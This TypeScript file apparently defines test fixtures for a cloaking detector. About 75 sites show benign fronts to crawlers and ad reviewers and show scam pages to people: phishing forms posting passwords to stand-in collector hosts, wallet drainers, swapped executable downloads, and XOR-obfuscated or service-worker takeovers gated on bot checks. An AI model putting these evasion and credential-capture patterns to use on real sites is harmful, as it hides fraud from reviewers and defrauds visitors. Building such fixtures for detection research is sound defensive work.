// biome-ignore-all format: a table, with a site in each line
import { agent, country, css, isBot, isMobile, isTool, js, json, language, packed, type Site, script, to, type Visit, withHeaders } from "../kit.ts";
import { blog, inner, landing, news, next, shop, site, table } from "./skins.ts";
import { fronts as f, offers as o } from "./texts.ts";

const person = (v: Visit) => !isBot(v) && !isTool(v);
const has = (v: Visit, name: string) => v.query.has(name);
const from = (v: Visit, host: RegExp) => host.test(v.header("referer"));
const social = /facebook|instagram|tiktok|t\.co\/|youtube/;
const searched = /google\.|bing\.|duckduckgo|yahoo/;
/** A front for those who should not see the back. */
const two = (front: string, back: string, when: (v: Visit) => boolean): Site => site((v) => (when(v) ? back : front));
/** Script text that puts a page in place of the one shown. */
const over = (back: string) => `document.body.innerHTML=${packed(inner(back))}`;
const quoted = (html: string) => JSON.stringify(html).replaceAll("</", "<\\/");
const coded = (html: string) => Buffer.from(Buffer.from(html, "latin1").map((byte) => byte ^ 23)).toString("base64");
const ascii = (html: string) => html.replace(/[^\x20-\x7e\n]/g, (c) => `&#${c.codePointAt(0)};`);

export const cloaking: Record<string, Site> = {
  // Servers that choose.
  "slimming-advertorial-by-fbclid": two(blog(f.recipes), news(o.slim), (v) => has(v, "fbclid") && person(v)),
  "tiger-by-gclid-and-android": two(landing(f.gym), landing(o.tiger), (v) => has(v, "gclid") && /Android/.test(agent(v))),
  "income-by-tiktok-webview": two(blog(f.lessons), landing(o.income), (v) => has(v, "ttclid") || /musical_ly|BytedanceWebview|trill_/.test(agent(v))),
  "fake-news-from-social": two(news(f.scamnews), news(o.deepfake), (v) => from(v, social) && person(v)),
  "pharma-hack-from-search": two(blog(f.vet), shop(o.potency), (v) => from(v, searched) && person(v)),
  "pharma-words-for-crawlers": two(blog(f.church), blog(f.church, { title: "Buy tablets online without prescription", body: f.church.body.concat(o.potency.body).map((p) => `<p>${p}</p>`).join("") }), (v) => /Googlebot|bingbot|YandexBot/.test(agent(v))),
  "link-farm-for-crawlers": site((v) => table(f.lawyer, { contact: isBot(v) ? `<div>${["cheap-tablets", "replica-watches", "essay-help", "casino-bonus", "payday-loans", "seo-links"].map((n) => `<a href="https://${n}.example/">${n.replace("-", " ")}</a>`).join(" ")}</div>` : "" })),
  "bank-phishing-in-portuguese": two(next(f.saas), next(o.phish, { fields: `<input type="password" name="senha"><input name="token">` }), (v) => language(v) === "pt" && person(v)),
  "refund-for-brazil": two(blog(f.taxes), landing(o.refund, { fields: `<input name="cpf">` }), (v) => country(v) === "BR" && person(v)),
  "phishing-404-for-crawlers": site((v) => person(v) ? landing(o.parcel, { fields: `<input name="card"><input name="cvv">` }) : { status: 404, html: "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\"><html><head><title>404 Not Found</title></head><body><h1>Not Found</h1><p>The requested URL was not found on this server.</p></body></html>" }),
  "fake-shop-crawlers-to-wikipedia": site((v) => person(v) ? shop(o.sneakers) : to("https://en.wikipedia.org/wiki/Sneakers")),
  "codec-needs-fetch-headers": two(blog(f.lessons), landing(o.codec, { contact: `<a download href="/MediaCodec11.exe">Install update</a>` }), (v) => v.header("sec-fetch-mode") === "navigate" && v.header("sec-fetch-site") === "cross-site"),
  "apk-needs-phone-hint": two(blog(f.gym), landing(o.apk, { contact: `<a href="/bolsa.apk">Baixar APK</a>` }), (v) => v.header("sec-ch-ua-mobile") === "?1"),
  "support-scam-windows-chrome": two(blog(f.recipes), landing(o.support, { contact: `<a href="tel:+18335550177">+1 833 555 0177</a>` }), (v) => /Windows NT.*Chrome/.test(agent(v)) && person(v)),
  "prize-on-iphone": two(shop(f.pottery), landing(o.phone), (v) => /iPhone/.test(agent(v)) && person(v)),
  "cams-in-instagram": two(landing(f.dating), landing(o.cams), (v) => /Instagram|FBAN|FBAV/.test(agent(v))),
  "second-visit-tarot": site((v) => withHeaders(v.cookie("v") && person(v) ? landing(o.tarot) : blog(f.church), { "set-cookie": "v=1; Path=/" })),
  "first-visit-only-drainer": site((v) => withHeaders(v.cookie("d") || !person(v) ? next(f.exchange) : next(o.drainer), { "set-cookie": "d=1; Path=/" })),
  "campaign-and-click-id": site((v) => v.query.get("utm_source") === "ig" && has(v, "fbclid") && person(v) ? landing(o.fee) : next(f.bank), {}, "/?utm_source=ig&utm_campaign=black"),
  "form-target-for-people": site((v) => next(f.bank, { action: person(v) ? "https://collect.secure-forms.example/in" : "/login", fields: `<input type="password" name="senha">` })),
  "phone-number-for-ads": site((v) => landing(f.dentist, { contact: `<a href="tel:+1${has(v, "gclid") || has(v, "fbclid") || has(v, "msclkid") ? "8885550199" : "4015550142"}">Call now</a>` })),
  "subscription-terms-hidden": site((v) => landing(f.stream, { contact: isBot(v) || isTool(v) ? `<p>A assinatura de teste renova por R$ 189,90 a cada 14 dias, até ser cancelada por escrito; o valor é cobrado no cartão informado e a renovação ocorre automaticamente sem novo aviso ao assinante, com multa de cancelamento de três mensalidades conforme o contrato disponível no cartório.</p>` : "<p>Teste grátis, sem compromisso.</p>" })),
  "price-for-reviewers": site((v) => shop(o.heater, { items: person(v) ? o.heater.items : ["1 Gerät = 19,00 €", "3 Geräte = 39,00 €"] })),
  "download-swapped-on-windows": site((v) => next(f.antivirus, { contact: /Windows/.test(agent(v)) && person(v) ? `<a href="https://cdn.setup-files.example/cairn_setup_full.exe">${f.antivirus.call}</a>` : `<a href="/download/cairn-setup.exe">${f.antivirus.call}</a>` })),
  "whatsapp-for-people": site((v) => shop(f.cars, { contact: `<a href="https://wa.me/${person(v) && from(v, social) ? "447700900456" : "34600000000"}">WhatsApp</a>` })),
  "refresh-header-for-ads": site((v) => withHeaders(blog(f.wine), (has(v, "gclid") || has(v, "fbclid")) && person(v) ? { refresh: "0; url=/bonus" } : {}), { "/bonus": landing(o.slots) }),
  "meta-refresh-for-people": site((v) => blog(f.insurer, { head: person(v) && isMobile(v) ? `<meta http-equiv="refresh" content="1;url=/artikel">` : "" }), { "/artikel": news(o.joints) }),
  "chain-of-trackers": site((v) => person(v) && !v.cookie("x") && from(v, /./) ? to("https://trk.partner-clicks.example/c?o=9") : shop(f.vitamins)),
  "frame-over-page-for-ads": site((v) => blog(f.coach, { end: has(v, "fbclid") || has(v, "ttclid") ? `<iframe src="https://offer.partner-page.example/l" style="position:fixed;inset:0;width:100%;height:100%;border:0;z-index:9999"></iframe>` : "" })),
  "four-in-five-of-targets": two(shop(f.vitamins), landing(o.slim), (v) => has(v, "fbclid") && person(v) && v.random() < 0.8),
  "only-ad-reviewers-excluded": two(blog(f.university), landing(o.tasks, { contact: `<a href="https://wa.me/447700900123">Escribir</a>` }), (v) => !/AdsBot|facebookexternalhit|Bytespider|Googlebot|adidxbot|LinkedInBot|Twitterbot|Pinterest/i.test(agent(v))),
  "replica-words-for-people": site((v) => person(v) ? shop(o.replica) : shop({ ...o.replica, headline: "Watches inspired by classics", body: ["Own designs with quartz movements, made for everyday wear.", "Returns within thirty days and two years of warranty.", "We show our own brand on every dial.", "Parcels are insured."] })),
  "guns-without-language": two(shop(f.hunting), shop(o.guns), (v) => v.header("accept-language") !== "" && v.header("sec-ch-ua") !== "" && person(v)),
  "title-for-previews": site((v) => person(v) ? news(o.cancer) : news({ ...o.cancer, headline: "Un cours d'aromathérapie à Lyon", body: ["L'atelier du samedi présente dix huiles et leurs usages en cuisine.", "Venez avec un flacon vide.", "Places limitées à douze.", "Inscription au comptoir.", "Tarif réduit pour étudiants."] })),
  "miracle-paragraphs-for-people": site((v) => blog(f.vitamins, { body: [...f.vitamins.body, ...(person(v) ? o.diabetes.body : [])].map((p) => `<p>${p}</p>`).join("") })),
  "papers-from-messenger": two(landing(f.lawyer), landing(o.papers), (v) => from(v, /telegram|t\.me|whatsapp|messenger/)),
  "desktop-safari-excluded": two(landing(f.repair), landing(o.heater), (v) => isMobile(v) && person(v) && (has(v, "fbclid") || from(v, social))),
  "empty-page-for-crawlers": site((v) => person(v) ? landing(o.fee) : { html: `<!doctype html><html lang="pt-BR"><head><title>Em breve</title></head><body><p>Site em construção.</p></body></html>` }),
  "redirect-for-french": site((v) => language(v) === "fr" && isMobile(v) && person(v) ? to("/cure") : blog(f.school), { "/cure": news(o.cancer) }),
  "trap-for-spain-phones": two(blog(f.telecom), landing(o.trap), (v) => ["ES", "MX"].includes(country(v)) && isMobile(v) && person(v)),
  // Scripts that choose in the browser; the server treats all alike.
  "script-no-webdriver": site(shop(f.vitamins, { end: script(`if(!navigator.webdriver)${over(landing(o.slim))}`) })),
  "script-sao-paulo-clock": site(blog(f.gym, { end: script(`if(Intl.DateTimeFormat().resolvedOptions().timeZone==='America/Sao_Paulo')${over(landing(o.tiger))}`) })),
  "script-touch-points": site(landing(f.app, { end: script(`if(navigator.maxTouchPoints>0&&screen.width<500){${over(landing(o.cams))}}`) })),
  "script-language-german": site(next(f.saas, { end: script(`if(/^de/.test(navigator.language)){${over(news(o.joints))}}`) })),
  "script-social-referrer": site(news(f.scamnews, { end: script(`if(/facebook|instagram|tiktok/.test(document.referrer)){${over(news(o.diabetes))}}`) })),
  "script-click-id": site(landing(f.coach, { end: script(`if(/[?&](fbclid|gclid|ttclid)=/.test(location.search)){${over(news(o.deepfake))}}`) })),
  "script-software-graphics": site(next(f.exchange, { end: script(`try{var g=document.createElement('canvas').getContext('webgl'),x=g.getExtension('WEBGL_debug_renderer_info'),r=g.getParameter(x.UNMASKED_RENDERER_WEBGL);if(!/SwiftShader|llvmpipe|Mesa/i.test(r)){${over(next(o.drainer))}}}catch(e){}`) })),
  "script-moves-then-reveals": site(blog(f.pottery, { end: script(`addEventListener('mousemove',function(e){if(e.isTrusted&&!navigator.webdriver){${over(shop(o.replica))}}},{once:true})`) })),
  "script-scroll-reveals": site(news(f.scamnews, { end: script(`addEventListener('scroll',function(){${over(landing(o.parcel))}},{once:true})`) })),
  "script-touch-reveals": site(landing(f.tours, { end: script(`addEventListener('touchstart',function(){location.href='/oferta'},{once:true})`) }), { "/oferta": landing(o.apk) }),
  "script-later-if-not-driven": site(blog(f.insurer, { end: script(`setTimeout(function(){if(!navigator.webdriver&&navigator.plugins.length){${over(landing(o.slots))}}},2500)`) })),
  "script-asks-server": site(shop(f.cars, { end: script("fetch('/k',{method:'POST',body:JSON.stringify({w:navigator.webdriver,l:navigator.languages,t:Intl.DateTimeFormat().resolvedOptions().timeZone,s:[screen.width,screen.height],r:document.referrer})}).then(function(r){return r.text()}).then(function(h){if(h)document.body.innerHTML=h})") }), { "/k": (v) => { const sent = v.body; return /"w":false/.test(sent) && /facebook|instagram|google|tiktok/.test(sent) ? inner(landing(o.tasks)) : ""; } }),
  "script-server-says-go": site(next(f.stream, { end: script("var x=new XMLHttpRequest();x.open('GET','/geo?tz='+encodeURIComponent(Intl.DateTimeFormat().resolvedOptions().timeZone)+'&d='+devicePixelRatio);x.onload=function(){var d=JSON.parse(x.responseText);if(d.u)location.replace(d.u)};x.send()") }), { "/geo": (v) => json(/America/.test(v.query.get("tz") ?? "") ? { u: "/sorteio" } : {}), "/sorteio": landing(o.refund) }),
  "script-xor-in-attribute": site(blog(f.lessons, { contact: `<i data-c="${coded(ascii(inner(landing(o.support))))}"></i>`, end: script("if(!navigator.webdriver&&screen.width>1000){var s=atob(document.querySelector('[data-c]').dataset.c),h='';for(var i=0;i<s.length;i++)h+=String.fromCharCode(s.charCodeAt(i)^23);document.body.innerHTML=h}") })),
  "script-file-by-referrer": site(landing(f.charity, { end: `<script src="/t.js"></script>` }), { "/t.js": (v) => js(/Chrome/.test(agent(v)) && !isBot(v) && isMobile(v) ? over(landing(o.phone)) : "window.t=1") }),
  "style-file-for-phones": site(landing(f.dating, { head: `<link rel="stylesheet" href="/s.css">`, end: `<div id="b">${inner(landing(o.cams))}</div>` }), { "/s.css": (v) => css(isMobile(v) && !isBot(v) ? ".hero,section:not(#b *){display:none}#b,#b section,#b .hero{display:block}" : "#b{display:none}") }),
  "style-coarse-pointer": site(blog(f.recipes, { head: `<style>#b{display:none}@media(pointer:coarse){#b{display:block}#masthead,.site,body>footer{display:none}}</style>`, end: `<div id="b">${inner(news(o.cancer))}</div>` })),
  "style-narrow-window": site(landing(f.bistro, { head: `<style>#b{display:none}@media(max-width:480px){#b{display:block}body>section{display:none}}</style>`, end: `<div id="b">${inner(landing(o.trap))}</div>` })),
  "worker-answers-the-return": site(landing(f.app, { end: script("navigator.serviceWorker.register('/w.js')") }), { "/w.js": js(`addEventListener('install',function(){skipWaiting()});addEventListener('activate',function(e){e.waitUntil(clients.claim())});addEventListener('fetch',function(e){if(e.request.mode==='navigate')e.respondWith(new Response(${quoted(landing(o.drainer, { action: "https://claim.wallet-sync.example/p" }))},{headers:{'content-type':'text/html;charset=utf-8'}}))})`) }),
  "storage-on-return": site(shop(f.tours, { end: script(`if(localStorage.n){${over(landing(o.tiger))}}localStorage.n=1`) })),
  "frame-of-own-site": site(blog(f.coach, { end: script("if(!navigator.webdriver&&/Mobile/.test(navigator.userAgent)){var i=document.createElement('iframe');i.src='/inner';i.style.cssText='position:fixed;inset:0;width:100vw;height:100vh;border:0;background:#fff;z-index:9';document.body.append(i)}") }), { "/inner": landing(o.slim) }),
  "blob-document": site(next(f.jobs, { end: script(`if(devicePixelRatio>1&&navigator.maxTouchPoints){location.replace(URL.createObjectURL(new Blob([${packed(landing(o.tasks))}],{type:'text/html'})))}`) })),
  "shadow-over-page": site(table(f.bistro, { end: script(`if(!navigator.webdriver){var h=document.createElement('div');h.style.cssText='position:fixed;inset:0;background:#fff;overflow:auto';h.attachShadow({mode:'closed'}).innerHTML=${packed(inner(landing(o.parcel)))};document.body.append(h)}`) })),
  "template-opened-for-people": site(blog(f.church, { contact: `<template id="t">${inner(landing(o.tarot))}</template>`, end: script("if(/pt/.test(navigator.language)&&!navigator.webdriver){var c=document.getElementById('t').content.cloneNode(true);document.body.replaceChildren(c)}") })),
  "document-written-anew": site(news(f.scamnews, { end: script(`if(!navigator.webdriver&&document.referrer){var h=${packed(news(o.diabetes))};document.open();document.write(h);document.close()}`) })),
  "link-swapped-by-script": site(next(f.antivirus, { contact: `<a id="d" href="/download/cairn-setup.exe">${f.antivirus.call}</a>`, end: script("if(!navigator.webdriver)document.getElementById('d').href='https://cdn.setup-files.example/cairn_full.exe'") })),
  "form-target-by-script": site(next(f.bank, { fields: `<input type="password" name="senha">`, end: script("if(!navigator.webdriver&&/pt/.test(navigator.language))document.querySelector('form').action='https://collect.secure-forms.example/in'") })),
  "imported-module": site(landing(f.gym, { end: `<script type="module">const z=Intl.DateTimeFormat().resolvedOptions().timeZone;if(z.startsWith("America/"))import("/m.mjs").then(m=>m.show())</script>` }), { "/m.mjs": js(`export function show(){${over(landing(o.income))}}`) }),
  "worker-thread-decodes": site(blog(f.lawyer, { end: script(`if(!navigator.webdriver){var w=new Worker(URL.createObjectURL(new Blob(["onmessage=function(e){postMessage(decodeURIComponent(escape(atob(e.data))))}"])));w.onmessage=function(e){document.body.innerHTML=e.data};w.postMessage("${Buffer.from(inner(landing(o.fee))).toString("base64")}")}`) })),
  "hidden-frame-decides": site(shop(f.homes, { end: `<iframe src="/probe" hidden></iframe>${script("onmessage=function(e){if(e.data.go)location.replace('/lp')}")}` }), { "/probe": `<script>parent.postMessage({go:!navigator.webdriver&&navigator.maxTouchPoints>0},'*')</script>`, "/lp": landing(o.apk) }),
  "history-trap-on-return": site(blog(f.tickets, { end: script(`if(/Mobile/.test(navigator.userAgent)&&!navigator.webdriver){history.pushState(0,'','/win');${over(landing(o.phone))}}`) })),
  "animation-frame-and-tap": site(landing(f.lottery, { end: script(`var n=0;['pointermove','pointerdown','keydown'].forEach(function(t){addEventListener(t,function(e){if(e.isTrusted&&++n>2){${over(landing(o.trap))};n=-1e9}})})`) })),
  "cookie-then-reload": site((v) => v.cookie("js") === "d0" ? landing(o.deepfake) : blog(f.lessons, { end: script("if(!/js=/.test(document.cookie)){document.cookie='js=d'+(navigator.webdriver?1:0)+';path=/';location.reload()}") })),
  "canvas-draws-offer": site(blog(f.wine, { end: script(`if(!navigator.webdriver&&screen.width<600){document.body.innerHTML='<canvas width=360 height=640></canvas><form action="/go" method="post"><button>OK</button></form>';var c=document.querySelector('canvas').getContext('2d');c.font='16px sans-serif';${JSON.stringify([o.slots.headline, ...o.slots.body])}.forEach(function(s,i){c.fillText(s,4,30+i*40)})}`) })),
  "timezone-against-language": site(landing(f.university, { end: script(`var z=new Date().getTimezoneOffset();if(z>=180&&z<=300&&/^(es|pt)/.test(navigator.language)){${over(landing(o.tasks))}}`) })),
};
